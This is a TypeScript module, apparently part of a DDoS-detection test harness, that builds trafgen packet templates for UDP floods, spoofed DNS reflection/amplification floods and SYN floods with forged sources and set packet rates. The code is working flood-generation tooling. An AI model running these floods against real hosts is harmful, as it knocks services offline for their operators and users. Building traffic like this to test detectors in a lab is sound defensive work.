import { FORGED, GAME_PORT, ipv4Number, TCP_PORT } from './topology'

/** Floods as trafgen packet descriptions. Pure: the same scenario always renders the same text for the same target. */

export const SCENARIOS = ['udp-flood', 'dns-reflection', 'syn-flood'] as const
export type Scenario = (typeof SCENARIOS)[number]

export const VARIANTS = {
  'udp-flood': ['fixed', 'random'],
  'dns-reflection': ['any', 'txt'],
  'syn-flood': ['bare', 'options'],
} as const satisfies Record<Scenario, readonly [string, ...string[]]>

export type Flood = {
  scenario: Scenario
  variant: string
  /** Frames each second that trafgen is asked for. */
  pps: number
  /** Length of one frame on the wire without checksum, bytes; the mean where it varies. */
  frameBytes: number
  /** Vector ids that name this flood rightly. */
  vectorIds: string[]
  packets: string[]
}

export type Target = { address: string; mac: string; attackerMac: string }

const ETHERNET_BYTES = 14
const IPV4_BYTES = 20

export function isVariant(scenario: Scenario, variant: string): boolean {
  return (VARIANTS[scenario] as readonly string[]).includes(variant)
}

export function planFlood(scenario: Scenario, variant: string, target: Target): Flood {
  if (!isVariant(scenario, variant)) {
    throw new Error(`${scenario} has no variant ${variant}; it has ${VARIANTS[scenario].join(', ')}`)
  }
  if (scenario === 'udp-flood') return udpFlood(variant, target)
  if (scenario === 'dns-reflection') return dnsReflection(variant, target)
  return synFlood(variant, target)
}

const ethernet = ({ mac, attackerMac }: Target): string => `eth(da=${mac}, sa=${attackerMac}, type=0x0800)`
const anySource = `drnd(${FORGED.first4}, ${FORGED.last4})`
const bytes = (data: Buffer): string => [...data].map((byte) => `0x${byte.toString(16).padStart(2, '0')}`).join(', ')
const mean = (values: number[]): number => Math.round(values.reduce((sum, value) => sum + value, 0) / values.length)

function udpFlood(variant: string, target: Target): Flood {
  const header = `${ethernet(target)}, ipv4(sa=${anySource}, da=${target.address}, ttl=drnd(44, 60), id=drnd()), udp(sp=drnd(1024, 65535), dp=${GAME_PORT})`
  const fixed = [`{ ${header}, 0x5a, 0x10, 0x00, 0x7f, 0x00, 0x01, drnd(26), fill(0x20, 32) }`]
  const lengths = [18, 64, 131, 207, 322, 433, 509, 27, 96, 160]
  const random = lengths.map((length) => `{ ${header}, drnd(${length}) }`)
  const payload = variant === 'fixed' ? 64 : mean(lengths)
  return {
    scenario: 'udp-flood',
    variant,
    pps: 150_000,
    frameBytes: ETHERNET_BYTES + IPV4_BYTES + 8 + payload,
    vectorIds: variant === 'fixed' ? ['udp_flood_fixed', 'udp_flood_random'] : ['udp_flood_random'],
    packets: variant === 'fixed' ? fixed : random,
  }
}

const DNS_ANY = 255
const DNS_TXT = 16

function resourceRecord(type: number, data: Buffer): Buffer {
  const record = Buffer.alloc(12)
  record.writeUInt16BE(0xc00c, 0)
  record.writeUInt16BE(type, 2)
  record.writeUInt16BE(1, 4)
  record.writeUInt32BE(3600, 6)
  record.writeUInt16BE(data.length, 10)
  return Buffer.concat([record, data])
}

const text = (length: number): Buffer =>
  Buffer.concat([Buffer.from([length]), Buffer.alloc(length, 'v=spf1 include:example.net ')])

/** Body of a DNS answer after its id: QR=1, one question, several answers, one EDNS record. */
export function dnsAnswerBody(question: number, textLengths: number[]): Buffer {
  const name = Buffer.from('\x07example\x03org\x00', 'latin1')
  const answers = textLengths.map((length) => resourceRecord(DNS_TXT, text(length)))
  if (question === DNS_ANY) {
    answers.push(resourceRecord(1, Buffer.from([203, 0, 113, 80])), resourceRecord(48, Buffer.alloc(132, 0x5e)))
  }
  const header = Buffer.alloc(10)
  header.writeUInt16BE(0x8180, 0)
  header.writeUInt16BE(1, 2)
  header.writeUInt16BE(answers.length, 4)
  header.writeUInt16BE(1, 8)
  const edns = Buffer.from([0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0])
  return Buffer.concat([header, name, Buffer.from([0, question, 0, 1]), ...answers, edns])
}

function dnsReflection(variant: string, target: Target): Flood {
  const question = variant === 'any' ? DNS_ANY : DNS_TXT
  const bodies = [
    [250, 250, 250, 250],
    [240, 240, 180],
    [255, 255, 255, 120],
  ].map((lengths) => dnsAnswerBody(question, lengths))
  const reflectors = [ipv4Number('198.18.0.0'), ipv4Number('198.18.15.255')]
  const packets = bodies.map(
    (body) =>
      `{ ${ethernet(target)}, ipv4(sa=drnd(${reflectors.join(', ')}), da=${target.address}, ttl=drnd(48, 62), id=drnd()), ` +
      `udp(sp=53, dp=drnd(1024, 65535)), drnd(2), ${bytes(body)} }`,
  )
  return {
    scenario: 'dns-reflection',
    variant,
    pps: 100_000,
    frameBytes: ETHERNET_BYTES + IPV4_BYTES + 8 + 2 + mean(bodies.map((body) => body.length)),
    vectorIds: ['dns_amp'],
    packets,
  }
}

/** MSS 1460, SACK permitted, time stamps, no-op, window scale 7: what a Linux client sends. */
const SYN_OPTIONS =
  '0x02, 0x04, 0x05, 0xb4, 0x04, 0x02, 0x08, 0x0a, drnd(4), 0x00, 0x00, 0x00, 0x00, 0x01, 0x03, 0x03, 0x07'

function synFlood(variant: string, target: Target): Flood {
  const withOptions = variant === 'options'
  const words = withOptions ? 10 : 5
  const ip = `ipv4(sa=${anySource}, da=${target.address}, ttl=drnd(44, 60), id=drnd(), df)`
  const tcp = `tcp(sp=drnd(1024, 65535), dp=${TCP_PORT}, seq=drnd(), doff=${words}, syn, win=${withOptions ? 64240 : 'drnd(512, 65535)'})`
  return {
    scenario: 'syn-flood',
    variant,
    pps: 150_000,
    frameBytes: ETHERNET_BYTES + IPV4_BYTES + words * 4,
    vectorIds: ['syn_flood'],
    packets: [`{ ${ethernet(target)}, ${ip}, ${tcp}${withOptions ? `, ${SYN_OPTIONS}` : ''} }`],
  }
}
